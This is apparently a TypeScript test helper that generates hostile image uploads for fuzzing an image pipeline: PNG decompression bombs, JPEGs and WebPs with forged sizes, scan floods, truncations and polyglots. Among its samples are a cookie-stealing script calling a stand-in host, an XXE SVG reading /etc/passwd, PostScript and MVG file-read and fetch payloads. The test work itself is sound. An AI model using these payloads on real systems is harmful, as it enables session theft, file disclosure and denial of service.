import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { randomFrom } from '#test/support/fuzz/random.ts';

type Hostile = { name: string; bytes: Buffer };

const chunk = (type: string, body: Buffer) => {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([size, named, sum]);
};

/** A PNG that claims this size, and whose pixels have one color: a few kilobytes for gigabytes. */
export function bomb(width: number, height: number, { depth = 8, colors = 2, rows = height } = {}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([depth, colors, 0, 0, 0], 8);
  const samples = { 0: 1, 2: 3, 4: 2, 6: 4 }[colors]!;
  const line = 1 + Math.ceil((width * samples * depth) / 8);
  const pixels = deflateSync(Buffer.alloc(Math.min(line * rows, 256 * 1_024 * 1_024)), { level: 1 });
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Writes another size into a JPEG's frame, or a WebP's. */
function resized(bytes: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(bytes);
  if (copy[0] === 0xff) {
    const frame = copy.findIndex((byte, index) => byte === 0xff && [0xc0, 0xc2].includes(copy[index + 1]!));
    copy.writeUInt16BE(height, frame + 5);
    copy.writeUInt16BE(width, frame + 7);
  } else {
    copy.writeUInt16LE(width & 0x3fff, 26);
    copy.writeUInt16LE(height & 0x3fff, 28);
  }
  return copy;
}

/** A progressive JPEG whose last scan repeats thousands of times: each one covers the whole picture. */
function manyScans(progressive: Buffer, times: number): Buffer {
  const last = progressive.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = progressive.subarray(last, -2);
  return Buffer.concat([
    progressive.subarray(0, -2),
    ...Array.from({ length: times }, () => scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60000" height="60000"
 onload="alert(1)"><text>&x;</text><image xlink:href="file:///etc/passwd"/></svg>`;

const others: [string, string][] = [
  ['an SVG', svg],
  ['an SVG behind a space', ` ${svg}`],
  ['a page', `<!doctype html>${script}`],
  ['a script', script],
  ['a GIF', 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'],
  ['a GIF that is a script', 'GIF89a=1;alert(1)//'],
  ['a TIFF', 'II*\0\x08\0\0\0\0\0\0\0'],
  ['a BMP', 'BM\x46\0\0\0\0\0\0\0\x36\0\0\0'],
  ['an HEIC', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'],
  ['an AVIF', '\0\0\0\x1cftypavif\0\0\0\0avifmif1'],
  ['a PDF', '%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>'],
  ['a PSD', '8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x01\0\0\0\x01\0\x08\0\x03'],
  ['a ZIP', 'PK\x03\x04\x14\0\0\0\0\0'],
  ['a program', '\x7fELF\x02\x01\x01\0'],
  ['a Windows program', 'MZ\x90\0\x03\0\0\0'],
  ['PostScript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file'],
  ['an MVG', "push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'"],
  ['a FITS', 'SIMPLE  =                    T'],
  ['a PPM', 'P6 60000 60000 255\n'],
  ['nothing but zeros', '\0'.repeat(4_096)],
  ['one byte', 'x'],
  ['the mark of a PNG', '\x89PNG\r\n\x1a\n'],
  ['the mark of a JPEG', '\xff\xd8\xff\xe0'],
  ['the mark of a WebP', 'RIFF\x10\0\0\0WEBPVP8 '],
];

/** Two hundred files that an attacker might send instead of a photo; the same ones each time. */
export async function hostilePictures(): Promise<Hostile[]> {
  const random = randomFrom(14);
  const noise = Buffer.from(Array.from({ length: 120 * 90 * 3 }, () => random.below(256)));
  const base = () => sharp(noise, { raw: { width: 120, height: 90, channels: 3 } });
  const jpeg = await base().jpeg().toBuffer();
  const progressive = await base().jpeg({ progressive: true }).toBuffer();
  const png = await base().png().toBuffer();
  const webp = await base().webp().toBuffer();
  const good = { jpeg, progressive, png, webp };
  const all: Hostile[] = [
    { name: 'a bomb of 144 megapixels', bytes: bomb(12_000, 12_000, { rows: 1_000 }) },
    { name: 'a bomb of 60,000 by 60,000', bytes: bomb(60_000, 60_000, { rows: 100 }) },
    { name: 'a line of 60,000', bytes: bomb(60_000, 1) },
    { name: 'a column of 60,000', bytes: bomb(1, 60_000) },
    { name: 'a line beyond any limit', bytes: bomb(0x7fffffff, 1, { rows: 0 }) },
    { name: 'no pixels', bytes: bomb(0, 0) },
    // Just below the limit, complete, and as deep as a PNG can be: the most memory that a picture may take.
    { name: '49 megapixels', bytes: bomb(7_000, 7_000) },
    { name: '49 megapixels of 64 bits, cut', bytes: bomb(7_000, 7_000, { depth: 16, colors: 6, rows: 4_000 }) },
    { name: 'a JPEG that says 60,000 by 60,000', bytes: resized(jpeg, 60_000, 60_000) },
    { name: 'a JPEG that says 7,000 by 7,000', bytes: resized(jpeg, 7_000, 7_000) },
    { name: 'a JPEG of no width', bytes: resized(jpeg, 0, 90) },
    { name: 'a WebP that says 16,383 by 16,383', bytes: resized(webp, 16_383, 16_383) },
    { name: 'a JPEG of two thousand scans', bytes: manyScans(progressive, 2_000) },
    ...others.map(([name, text]) => ({ name, bytes: Buffer.from(text, 'latin1') })),
  ];
  for (const [format, bytes] of Object.entries(good)) {
    all.push(
      { name: `a page in front of a ${format}`, bytes: Buffer.concat([Buffer.from(script), bytes]) },
      { name: `a page behind a ${format}`, bytes: Buffer.concat([bytes, Buffer.from(script)]) },
      { name: `a ZIP behind a ${format}`, bytes: Buffer.concat([bytes, Buffer.from('PK\x05\x06' + '\0'.repeat(18))]) },
    );
    for (let cut = 1; cut <= 10; cut += 1)
      all.push({
        name: `${cut}0% of a ${format}`,
        bytes: bytes.subarray(0, Math.floor((bytes.length * cut) / 10) - 1),
      });
  }
  const formats = Object.entries(good);
  while (all.length < 200) {
    const [format, bytes] = formats[all.length % formats.length]!;
    const bent = Buffer.from(bytes);
    for (let hit = 0; hit < 1 + (all.length % 12); hit += 1) bent[random.below(bent.length)] = random.below(256);
    all.push({ name: `a ${format} with wrong bytes, ${all.length}`, bytes: bent });
  }
  return all;
}

/** Whether a picture contains foreign data. */
export const holdsScript = (bytes: Buffer): boolean => bytes.includes('<script') || bytes.includes('PK\x05\x06');
